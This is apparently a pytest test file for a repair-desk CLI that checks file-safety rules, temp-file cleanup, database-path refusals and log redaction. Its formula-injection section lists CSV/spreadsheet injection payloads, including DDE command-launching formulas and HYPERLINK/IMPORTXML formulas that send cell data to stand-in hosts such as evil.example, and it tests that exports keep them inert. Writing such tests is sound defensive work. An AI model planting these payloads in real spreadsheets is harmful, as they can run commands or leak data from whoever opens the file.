"""Safe files and inputs (issue 12): no output over the database or an input of the same
command, formula-like text written as text, no leftover temporary files, --db refusals."""
from __future__ import annotations

import csv
import os
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.cli import EXIT_BUG
from app.domain.people import Customer
from app.services.export import export
from app.services.output_files import new_temp_file, remove_leftovers
from tests.importing.conftest import FIXTURES
from tests.test_cli import run

PROJECT = Path(__file__).resolve().parent.parent




@pytest.fixture
def demo_db(tmp_path: Path, capsys) -> Path:
    db = tmp_path / "k.db"
    assert run(capsys, "--db", str(db), "--lang", "en", "demo", "--customers", "20")[0] == 0
    return db


def a_ticket(db: Path, capsys, tmp_path: Path) -> str:
    out = tmp_path / "tickets.csv"
    assert run(capsys, "--db", str(db), "export", "tickets", str(out))[0] == 0
    with out.open(encoding="utf-8-sig", newline="") as f:
        return next(csv.DictReader(f))["number"]


# -- outputs that would destroy an input -------------------------------------------------------

def refused(capsys, db: Path, *args: str, also: Path | None = None) -> str:
    """Run the command and check it exits 2 leaving the database (and `also`) byte for byte."""
    before = db.read_bytes()
    kept = also.read_bytes() if also else None
    code, out, err = run(capsys, "--db", str(db), "--lang", "en", *args)
    assert code == 2, out + err
    assert db.read_bytes() == before
    if also:
        assert also.read_bytes() == kept
    return err


def test_a_job_card_onto_the_database_its_journal_or_a_link_to_it_is_refused(demo_db, capsys, tmp_path):
    number = a_ticket(demo_db, capsys, tmp_path)
    link = tmp_path / "card.pdf"
    link.symlink_to(demo_db)
    for target in (demo_db, demo_db.with_name("k.db-wal"), link, tmp_path / "K" / ".." / "k.db"):
        err = refused(capsys, demo_db, "jobcard", number, str(target))
        assert "is the desk's database" in err
    assert "is the desk's database" in refused(capsys, demo_db, "receipt", number, str(demo_db))


def test_a_document_without_its_extension_gets_it(demo_db, capsys, tmp_path):
    number = a_ticket(demo_db, capsys, tmp_path)
    code, out, _ = run(capsys, "--db", str(demo_db), "--lang", "en", "jobcard", number, str(tmp_path / "card"))
    assert code == 0 and (tmp_path / "card.pdf").read_bytes().startswith(b"%PDF")
    assert str(tmp_path / "card.pdf") in out


def test_an_import_log_or_a_saved_mapping_onto_the_database_is_refused(demo_db, capsys, tmp_path):
    sample = shutil.copy(FIXTURES / "legacy_sample_fa.xlsx", tmp_path / "legacy.xlsx")
    assert "is the desk's database" in refused(capsys, demo_db, "import", str(sample), "--log", str(demo_db))
    assert "is the desk's database" in refused(capsys, demo_db, "import", str(sample), "--save-map", str(demo_db))


def test_the_rejected_rows_onto_the_source_workbook_are_refused(demo_db, capsys, tmp_path):
    sample = Path(shutil.copy(FIXTURES / "legacy_sample_fa.xlsx", tmp_path / "legacy.xlsx"))
    for target in (sample, tmp_path / "legacy"):  # .xlsx added: the source again
        err = refused(capsys, demo_db, "import", str(sample), "--errors", str(target), also=sample)
        assert "read or written by this same command" in err


def test_two_outputs_of_one_import_to_one_file_or_onto_the_mapping_read_are_refused(demo_db, capsys, tmp_path):
    sample = Path(shutil.copy(FIXTURES / "legacy_sample_fa.xlsx", tmp_path / "legacy.xlsx"))
    out = tmp_path / "report.xlsx"
    refused(capsys, demo_db, "import", str(sample), "--errors", str(out), "--log", str(tmp_path / "report"))
    mapping = tmp_path / "map.json"
    assert run(capsys, "--db", str(demo_db), "import", str(sample), "--dry-run", "--save-map", str(mapping))[0] == 0
    refused(capsys, demo_db, "import", str(sample), "--map", str(mapping), "--save-map", str(mapping), also=mapping)


def test_an_export_through_a_link_to_the_database_is_refused(demo_db, capsys, tmp_path):
    link = tmp_path / "customers.xlsx"
    link.symlink_to(demo_db)
    assert "is the desk's database" in refused(capsys, demo_db, "export", "customers", str(link))


# -- formula injection -------------------------------------------------------------------------

PAYLOADS = [
    "=1+2", "=cmd|' /C calc'!A0", "+1+2", "-1+2", "@SUM(1+2)", "\t=1+2", "\r=1+2",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C notepad'!A1", "-2+3+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"A0")', '=IMPORTXML(CONCAT("http://e.example/?",A1),"//a")',
    "=1/0", "+98912+1", "=-1",
]


def named_with_payloads(db: Path) -> None:
    """The first customers' names and addresses become the payloads, as a sheet typed them."""
    from app.store import open_store

    store = open_store(f"sqlite:///{db}")
    try:
        with store.write() as session:
            customers = session.query(Customer).order_by(Customer.id).limit(len(PAYLOADS) + 1).all()
            for customer, payload in zip(customers, PAYLOADS, strict=False):
                customer.name = customer.address = payload
            customers[-1].name = "#N/A"
    finally:
        store.close()


def test_every_payload_goes_out_inert_in_csv(demo_db, capsys, tmp_path):
    named_with_payloads(demo_db)
    out = tmp_path / "customers.csv"
    assert run(capsys, "--db", str(demo_db), "export", "customers", str(out))[0] == 0
    with out.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["name"] for r in rows[:16]] == ["'" + p for p in PAYLOADS]
    assert [r["address"] for r in rows[:16]] == ["'" + p for p in PAYLOADS]
    assert all(r["mobile"].startswith("+98") for r in rows), "an international mobile is no formula"


def libreoffice_csv(book: Path, folder: Path) -> list[list[str]]:
    """The first sheet as LibreOffice computes it: a live formula would show its result."""
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("needs LibreOffice (soffice)")
    profile = folder / "lo-profile"
    subprocess.run([soffice, f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to",
                    "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(folder), str(book)],
                   check=True, capture_output=True, timeout=120)
    with (folder / (book.stem + ".csv")).open(encoding="utf-8", newline="") as f:
        return list(csv.reader(f))


def test_every_payload_stays_text_in_xlsx_for_openpyxl_and_libreoffice(demo_db, capsys, tmp_path):
    named_with_payloads(demo_db)
    out = tmp_path / "customers.xlsx"
    assert run(capsys, "--db", str(demo_db), "export", "customers", str(out))[0] == 0
    sheet = load_workbook(out).active
    names = [sheet.cell(row, 1) for row in range(2, 19)]
    # exactly the text, so the round trip keeps it (XML reads a carriage return as a line feed)
    expected = [p.replace("\r", "\n") for p in PAYLOADS] + ["#N/A"]
    assert [c.value for c in names] == expected
    assert {c.data_type for c in names} == {"s"}
    assert all(sheet.cell(row, 2).data_type == "s" for row in range(2, sheet.max_row + 1)), "mobiles are text"
    computed = libreoffice_csv(out, tmp_path / "lo")
    assert [row[0] for row in computed[1:18]] == expected


def test_the_list_for_people_writes_payloads_as_text(desk, tmp_path):
    from app.services.tickets import TicketInput, open_ticket
    from tests.services.helpers import customer
    from tests.services.test_list_export import export_tickets

    owner = customer(desk, name="=1+2")
    for payload in PAYLOADS[:4]:
        open_ticket(desk, TicketInput(customer_id=owner.id, fault=payload))
    out = tmp_path / "tickets.xlsx"
    export_tickets(desk, out)
    cells = [c for row in load_workbook(out).active.iter_rows() for c in row if c.value in PAYLOADS]
    assert {c.value for c in cells} == set(PAYLOADS[:4]) and {c.data_type for c in cells} == {"s"}
    computed = {v for row in libreoffice_csv(out, tmp_path / "lo") for v in row}
    assert set(PAYLOADS[:4]) | {"=1+2"} <= computed


def test_the_imports_rejected_rows_and_log_keep_payloads_as_text(demo_db, capsys, tmp_path):
    from openpyxl import Workbook

    legacy = Workbook()
    sheet = legacy.active
    sheet.title = "Log"
    sheet.append(["Customer", "Mobile", "Serial", "Remarks"])
    for i, payload in enumerate(PAYLOADS, start=2):
        for column, value in enumerate((payload, "not a phone", f"S-{i}", payload), start=1):
            cell = sheet.cell(i, column, value)
            cell.data_type = "s"  # text a clerk typed, as a legacy sheet holds it
    book = tmp_path / "legacy.xlsx"
    legacy.save(book)
    errors, log = tmp_path / "errors.xlsx", tmp_path / "log.xlsx"
    code, _, err = run(capsys, "--db", str(demo_db), "--lang", "en", "import", str(book), "--dry-run",
                       "--errors", str(errors), "--log", str(log))
    assert code == 0, err
    sheet = load_workbook(errors)["Log"]
    written = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)
               and c.value.startswith("=")]
    assert written and {c.data_type for c in written} == {"s"}
    assert {c.value for c in written} >= {p for p in PAYLOADS if p.startswith("=")}
    assert all(c.data_type != "f" for row in load_workbook(log).active.iter_rows() for c in row)


# -- temporary files of a killed export --------------------------------------------------------

KILLED_WRITER = """
import os, signal, sys
from pathlib import Path
from app.services.output_files import new_temp_file
print(new_temp_file(Path(sys.argv[1])), flush=True)
os.kill(os.getpid(), signal.SIGKILL)
"""


def killed_while_writing(out: Path) -> Path:
    """A Khedmat process that made its temporary file for `out` and was killed."""
    result = subprocess.run([sys.executable, "-c", KILLED_WRITER, str(out)], cwd=PROJECT, env=dict(os.environ),
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == -9
    temp = Path(result.stdout.strip())
    assert temp.exists() and temp.parent == out.parent and temp.name.startswith(".")
    return temp


def test_the_next_start_removes_what_a_killed_export_left_and_nothing_else(demo_db, capsys, tmp_path):
    folder = tmp_path / "exports"
    folder.mkdir()
    left = killed_while_writing(folder / "customers.xlsx")
    look_alike = folder / left.name.replace("customers", "mine")  # named like ours, listed nowhere
    look_alike.write_text("the clerk's")
    mine = new_temp_file(folder / "open.xlsx")  # this process is alive: its file stays
    assert run(capsys, "--db", str(demo_db), "--lang", "en", "lookup", "X")[0] == 1
    assert not left.exists()
    assert look_alike.read_text() == "the clerk's" and mine.exists()
    assert remove_leftovers() == 0


def test_a_listed_file_not_named_as_ours_is_never_deleted(tmp_path):
    from app import config

    victim = tmp_path / "invoices.xlsx"
    victim.write_text("another program's")
    journal = config.data_dir() / "pending" / "999999-deadbeef.journal"
    journal.parent.mkdir(parents=True, exist_ok=True)
    journal.write_text(f"{victim}\n{tmp_path}\n")
    assert remove_leftovers() == 0
    assert victim.read_text() == "another program's" and not journal.exists()


# -- --db that cannot be a Khedmat database ----------------------------------------------------

def db_refused(capsys, value: str, *args: str, lang: str = "en") -> str:
    code, out, err = run(capsys, "--db", value, "--lang", lang, *(args or ("lookup", "X")))
    assert code == 2 and code != EXIT_BUG, out + err
    assert "internal error" not in err
    return err


def test_a_folder_as_database_is_refused_in_the_users_language(tmp_path, capsys):
    from app.i18n import Catalogue

    assert "is a folder" in db_refused(capsys, str(tmp_path))
    err = db_refused(capsys, str(tmp_path), lang="fa")
    template = "{where} is a folder, not a database file. Give the path of the database file itself."
    assert err.strip() == Catalogue.load("fa").translate("Errors", template).format(where=tmp_path)


@pytest.mark.parametrize("url", ["mysql://user@localhost/khedmat", "oracle://h/x"])
def test_a_database_khedmat_does_not_work_with_is_refused(capsys, url):
    assert "neither" in db_refused(capsys, url)


@pytest.mark.parametrize("url", ["postgresql+psycopg://u:secret@host:port/db", "://nothing", "postgresql+nosuch://h/db"])
def test_a_malformed_address_is_refused_without_its_password(capsys, url):
    err = db_refused(capsys, url)
    assert "secret" not in err and "Traceback" not in err


def test_a_file_that_cannot_be_opened_is_refused(demo_db, tmp_path):
    if os.geteuid() == 0 and not shutil.which("setpriv"):
        pytest.skip("as root every file can be read")
    demo_db.chmod(0o600)
    command = [sys.executable, "-m", "app", "--db", str(demo_db), "--lang", "en", "lookup", "X"]
    if os.geteuid() == 0:  # root reads every file: run as nobody, who may not read this one
        for folder in (tmp_path, *tmp_path.parents[:3]):
            folder.chmod(folder.stat().st_mode | 0o755)
        command = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", *command]
    env = {**os.environ, "KHEDMAT_LOG_DIR": str(tmp_path / "nobody-logs"), "XDG_DATA_HOME": str(tmp_path / "nd")}
    (tmp_path / "nobody-logs").mkdir(mode=0o777)
    (tmp_path / "nd").mkdir(mode=0o777)
    os.chmod(tmp_path / "nobody-logs", 0o777)
    os.chmod(tmp_path / "nd", 0o777)
    result = subprocess.run(command, cwd=PROJECT, env=env, capture_output=True, text=True, timeout=60)
    assert result.returncode == 2, result.stderr
    assert "cannot be opened for reading and writing" in result.stderr


def test_a_mistyped_path_makes_no_new_database_unless_asked(tmp_path, capsys):
    typo = tmp_path / "khedmta.db"
    assert "add --create" in db_refused(capsys, str(typo))
    assert not typo.exists() and list(tmp_path.iterdir()) == []
    assert run(capsys, "--db", str(typo), "--create", "--lang", "en", "lookup", "X")[0] == 1
    assert typo.exists()
    assert run(capsys, "--db", str(typo), "--lang", "en", "lookup", "X")[0] == 1  # now it is there


def test_demo_and_the_embedded_default_need_no_create(tmp_path, capsys):
    from app import config

    assert run(capsys, "--lang", "en", "lookup", "X")[0] == 1
    assert config.default_database_path().exists()
    assert run(capsys, "--db", str(tmp_path / "new.db"), "--lang", "en", "demo", "--customers", "5")[0] == 0


def test_another_programs_empty_file_is_not_taken_over(tmp_path, capsys):
    empty, blank = tmp_path / "empty.db", tmp_path / "blank.db"
    empty.write_bytes(b"")
    sqlite3.connect(blank).execute("VACUUM").connection.close()
    for path in (empty, blank):
        before = path.read_bytes()
        for args in (("lookup", "X"), ("--create", "demo", "--customers", "5")):
            assert "Khedmat did not make" in db_refused(capsys, str(path), *args)
        assert path.read_bytes() == before


def test_a_driver_message_never_appears_inside_a_persian_message(tmp_path, capsys):
    from sqlalchemy import exc

    from app.i18n import Catalogue
    from app.store.errors import translate_db_error

    notes = tmp_path / "notes.txt"
    notes.write_text("a file where a folder should be")
    err = db_refused(capsys, str(notes / "k.db"), "--create", "lookup", "X", lang="fa")
    assert "Errno" not in err and "exists" not in err
    driver = sqlite3.OperationalError("unable to open database file")
    error = translate_db_error(exc.OperationalError("SELECT 1", {}, driver), "k.db")
    text = error.message(Catalogue.load("fa").translate)
    assert "unable" not in text and "k.db" in text


# -- logs hold no personal data ----------------------------------------------------------------

def test_a_failing_statement_carries_no_bound_value(store, caplog):
    from sqlalchemy import text

    secret = "Secret Name 09121234567"
    with pytest.raises(Exception) as caught, store.write() as session:
        session.execute(text("INSERT INTO no_such_table (name) VALUES (:name)"), {"name": secret})
    import logging

    logging.getLogger("khedmat.test").exception("failed", exc_info=caught.value)
    assert secret not in str(caught.value) and "09121234567" not in repr(caught.value)
    assert all(secret not in record.getMessage() and secret not in caplog.text for record in caplog.records)
    assert "hidden" in str(caught.value)


def test_export_writes_nothing_over_the_database_from_the_service(desk):
    from app.errors import ValidationError
    from app.store.engine import sqlite_path

    database = sqlite_path(desk.store.url)
    link = database.with_name("x.csv")
    link.symlink_to(database)
    with pytest.raises(ValidationError, match="database"):
        export(desk, "customers", link)


def test_the_systems_english_stays_in_the_log_and_the_clerk_reads_why_in_persian(tmp_path, capsys):
    from app.errors import system_reason
    from app.i18n import Catalogue, fill

    fa = Catalogue.load("fa")
    reason = system_reason(PermissionError(13, "Permission denied", str(tmp_path / "x.xlsx")))
    said = fill(fa.translate("Errors", "Cannot write to {path}: {reason}"), {"path": "x.xlsx", "reason": reason},
                fa.translate)
    assert "Permission denied" not in said and "اجازه" in said
    assert fa.translate(*system_reason(OSError(28, "No space left on device"))) == "دیسک پر است"
